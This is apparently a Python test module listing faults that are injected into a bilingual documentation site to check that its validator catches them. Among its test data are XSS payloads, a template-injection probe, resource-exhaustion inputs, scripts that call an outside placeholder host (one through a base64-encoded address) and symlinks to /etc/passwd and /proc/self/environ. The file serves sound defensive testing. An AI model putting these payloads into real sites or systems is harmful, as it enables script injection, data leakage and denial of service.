"""What eats time, lies beside docs/, or is read otherwise than it looks."""

from collections.abc import Callable
from pathlib import Path

from tests.sabotage.fault import (
    SETTINGS,
    SOURCE,
    TERMS,
    Fault,
    appended,
    changed,
    deleted,
    written,
)

_EN, _ZH = "docs/en/index.md", "docs/zh/index.md"
_CSS = "docs/assets/stylesheets/site.css"
_JS = "docs/assets/javascripts/site.js"
_HEADER = "docs/theme/partials/header.html"
_ICON = "docs/assets/images/favicon.svg"
_RAW = "raw HTML"
_NO_TAG = "this is no tag and is shown as it stands"
_EARLY = "browsers end this comment here"
_HIDES = "this hides what readers came for"
_LONG_LINE = "the line has over 5,000 characters"
_DEEP = "nested too deeply"
_LONE = "a carriage return alone ends this line"
_LINK = "a link to another file"
_GONE = "the folder is missing"


def _rewritten(
    path: str, name: str, change: Callable[[bytes], bytes], words: str, line: int | str
) -> Fault:
    """A file has other bytes."""

    def spoil(root: Path) -> None:
        (root / path).write_bytes(change((root / path).read_bytes()))

    return Fault(name, spoil, path, words, line)


def _linked(path: str, to: str, words: str) -> Fault:
    """A link stands where a file or a folder should be."""

    def spoil(root: Path) -> None:
        (root / path).unlink(missing_ok=True)
        (root / path).symlink_to(to)

    return Fault(f"link {path} to {to}", spoil, path, words, 0)


def _both(text: str, words: str, name: str = "") -> Fault:
    """The same text at the end of both pages."""

    def spoil(root: Path) -> None:
        for page in (_ZH, _EN):
            with (root / page).open("a", encoding="utf-8") as file:
                file.write(f"\n{text}\n")

    return Fault(name or f"both ends: {text!r}", spoil, _EN, words, text.split("\n", maxsplit=1)[0])


LINE_ENDS = [
    *(
        _rewritten(path, f"{name}: {path}", change, _LONE, 1)
        for path in (SOURCE, _EN, SETTINGS)
        for name, change in (
            ("carriage returns alone", lambda content: content.replace(b"\n", b"\r")),
            ("doubled carriage returns", lambda content: content.replace(b"\n", b"\r\r\n")),
        )
    ),
    _rewritten(_EN, "a page twice in its file", lambda page: page * 2, "stands here again", 29),
    _rewritten(
        _ZH,
        "a page twice in its file, the second without its head",
        lambda page: page + b"\n" + page.split(b"---\n")[2],
        "the page stands here a second time",
        31,
    ),
]

YAML = [
    changed(SOURCE, "zh: 没有写明,", 'zh: "没有\\u8d",', "a backslash between double"),
    changed(SOURCE, "zh: 没有写明,", 'zh: "没有\\写明",', "a backslash between double"),
    changed(SOURCE, "en: Not stated", "en: `Not` stated", "no text begins with `"),
    changed(SOURCE, "en: Not stated", "en: %stated", "no text begins with %"),
    changed(SOURCE, "  paragraphs: 3", "\u00a0\u00a0paragraphs: 3", "a space of another width"),
    changed(SOURCE, "place: china", "\u3000place: china", "a space of another width"),
    changed(SOURCE, "place: china", "pl\u0430ce: china", "is no Latin one"),
    changed(SOURCE, "        at: [3]", "\t\tat: [3]", "a tab stands here"),
]

HTML = [
    _both("<svg/onload=alert(1)>", _NO_TAG),
    _both("Words <img/src=x/onerror=alert(1)> [[@county-funds]].", _NO_TAG),
    _both("<!--><script>alert(1)</script>-->", _EARLY),
    _both("<!---><b>words</b> -->", _EARLY),
    _both("<!-- a --!><script>alert(1)</script> -->", _EARLY),
    _both("Words <!-- a --!> <b>b</b> --> words [[@county-funds]].", _EARLY),
    _both("<math><mtext><script>x</script></mtext></math>", _RAW),
    _both("![](data:image/png;base64,AAAA)", "a picture comes from this site alone"),
    _both("[words](index.md#)", "nothing stands behind #"),
    _both("<!-- explainer: chains sources=example-decision,example-decision -->", "twice in"),
    _both("县里的words[[@county-funds]][[@county-funds]]。", "is cited twice in a row"),
    changed(
        TERMS,
        "[[overall-planning]]。",
        "[[overall-planning]]<svg/onload=alert(1)>。",
        "a text holds no HTML",
    ),
]

TIME = [
    appended(_EN, f"\n{'`' * 30_000}a{'`' * 29_999}\n", _LONG_LINE, "```", "ticks"),
    appended(_EN, f"\n{'a' * 90_000}\n", _LONG_LINE, "aaaa", "90000 letters"),
    appended(_EN, f"\n{'a|' * 20_000}\n{'-|' * 20_000}\n", _LONG_LINE, "a|a|", "20000 cells"),
    appended(_EN, f"\n{'&amp;' * 20_000}\n", _LONG_LINE, "&amp;", "20000 entities"),
    appended(_EN, "\n" + "- `a\n" * 6_000, "without an empty line", "- `a", "6000 items"),
    appended(_CSS, ".a { color: red; }\n" * 20_000, "over 300,000 characters", 0, "20000 rules"),
    appended(_JS, "// words\n" * 40_000, "over 300,000 characters", 0, "40000 comments"),
    appended(_HEADER, "{% if page %}" * 3000 + "{% endif %}" * 3000, _DEEP, 1, "3000 conditions"),
    appended(_HEADER, f"{{{{ {'(' * 5000}", _DEEP, 1, "5000 brackets in a template"),
    appended("pyproject.toml", f"x = {'[' * 20_000}\n", _DEEP, 1, "20000 brackets of TOML"),
    *(
        appended(_HEADER, f"{text}\n", words, name=f"template {text!r}")
        for text, words in (
            ("{{ 'a' * 999999999 }}", "multiplies no texts"),
            ("{{ 9 ** 9 ** 9 ** 9 }}", "raises nothing to a power"),
            ("{{ 1 / 0 }}", "nothing is divided by 0"),
            ("{{ 'a' | center(999999999) }}", "a number of a template is at most"),
            ("{{ '0'.zfill(99999999) }}", "a number of a template is at most"),
        )
    ),
]

TEMPLATES = [
    appended(_HEADER, f"{text}\n", words, name=f"template {text!r}")
    for text, words in (
        ("{{ ''.__class__.__mro__ }}", "leads into the program"),
        ("{{ interface.home.text('fr') }}", 'there is no language "fr"'),
        ('<p title={{ page.title | e }} class="a">x</p>', "could add attributes"),
        ("<p {{ page.title | e }}>x</p>", "could add attributes"),
        ('<p id="menu">x</p>', 'the id "menu" stands'),
        ("<p>Words that only one language has</p>", "stand in interface.yml"),
        ("<p>只有一种文字的话</p>", "stand in interface.yml"),
    )
]

STYLES = [
    appended(_CSS, f"{rule}\n", _HIDES)
    for rule in (
        "main { zoom: 0; }",
        "article { position: fixed; top: -200vh; }",
        "p { letter-spacing: -1em; }",
        "main { max-height: 1px; overflow: clip; }",
        "main { position: relative; z-index: -1; }",
        "sup { display: none; }",
        "p { -webkit-text-fill-color: transparent; }",
        "main { mask: linear-gradient(transparent, transparent); }",
    )
]

SCRIPTS = [
    appended(_JS, f"{line}\n", words, name=f"script asks: {line!r}")
    for line, words in (
        ('new XMLHttpRequest().open("GET", "https://a.example/");', "asks no host but its own"),
        ('document.title = "https://" + "a.example/x.js";', "asks no host but its own"),
        ('fetch("//" + document.title);', "asks no host but its own"),
        ("fetch(`https://${location.host}.a.example/`);", "asks no host but its own"),
        ('fetch(atob("aHR0cHM6Ly9hLmV4YW1wbGU="));', "what this stands for"),
        ('document.body.append(document.createElement("iframe"));', "no such element"),
        ("document.body.remove();", "takes the page from its readers"),
        ('document.querySelector("main").hidden = true;', "takes the page from its readers"),
        ('fetch("/words.json");', "an address from the root"),
        ('export * from "https://a.example/a.js";', "another host"),
    )
]

SETTING = [
    changed(
        SETTINGS,
        "  - 首页: index.md\n",
        "",
        'nav has no entry "首页"',
        "首页: Home",
        name="no home page in the menu",
    ),
    changed(SETTINGS, "  - docs\n", "  - /\n", "is outside of the project"),
    changed(SETTINGS, "site_description: 脱贫", "site_description: 脫贫", "traditional characters"),
    changed(SETTINGS, "five sources, statement", "six sources, statement", "the figures differ"),
    appended(SETTINGS, "\nnav:\n  - 首页: index.md\n", "stands twice", "nav:", "the menu twice"),
    changed(
        SETTINGS,
        "  - 对照: compare.md\n",
        "  - 对照: compare.md\n  - 比较: compare.md\n",
        "stands in the navigation above",
    ),
]


def _home_last(root: Path) -> None:
    settings = root / SETTINGS
    text = settings.read_text(encoding="utf-8")
    home = "  - 首页: index.md\n"
    menu, rest = text.split("\nvalidation:", 1)
    menu = menu.replace(home, "", 1).rstrip("\n") + "\n" + home
    settings.write_text(f"{menu}\nvalidation:{rest}", encoding="utf-8")


SETTING.append(
    Fault("the home page last in the menu", _home_last, SETTINGS, "stands first in the navigation")
)

BESIDE = [
    written("README.md", "# A\n\n[words](gone.md)\n", "leads to no file of the project", 3),
    written("README.md", "# A\n\n![words](docs/gone.png)\n", "leads to no file", 3, name="picture"),
    written(
        "README.md", f"# A\n\n![]({_ICON})\n", "has no description", 3, name="picture without words"
    ),
    written("README.md", "# A\n\n[words](#b)\n", "there is no such heading", 3, name="anchor"),
    written("README.md", b"# A\n\n\xff\n", "is not UTF-8", 3),
    written("CHANGELOG.md", "# A\n\n>>>>>>> theirs\n", "a merge conflict", 3),
    written("CHANGELOG.md", "# A\n\n[words](/etc/passwd)\n", "leads to no file", 3, name="root"),
    written("CITATION.cff", "title: [a\n", "not valid YAML", 1),
    written(".github/workflows/site.yml", "on: push\n\tjobs: {}\n", "not valid YAML", 2),
    written(".vscode/settings.json", "{,}\n", "not valid JSON", 1),
    written("scripts/more.py", "a = 1\n<<<<<<< ours\n", "a merge conflict", 2),
    written("docs/theme/more.css", "x\n", "no template, so nothing reads it", 0),
    _linked("docs/en/more.md", "index.md", _LINK),
    _linked("docs/en/more.md", "/etc/passwd", "a link to a file elsewhere"),
    _linked("docs/en/more", "../zh", "a link to a folder is not followed"),
    _linked(TERMS, "/etc/passwd", "a link to a file elsewhere"),
    _linked("docs/corpus/sources/more.yml", "example-decision.yml", _LINK),
    _linked("docs/assets/javascripts/more.js", "/proc/self/environ", "a link to a file elsewhere"),
    deleted("docs/assets", _GONE),
    deleted("docs/assets/stylesheets", _GONE),
    deleted("docs/assets/javascripts", _GONE),
]

BOUNDS_FAULTS: list[Fault] = [
    *LINE_ENDS,
    *YAML,
    *HTML,
    *TIME,
    *TEMPLATES,
    *STYLES,
    *SCRIPTS,
    *SETTING,
    *BESIDE,
]
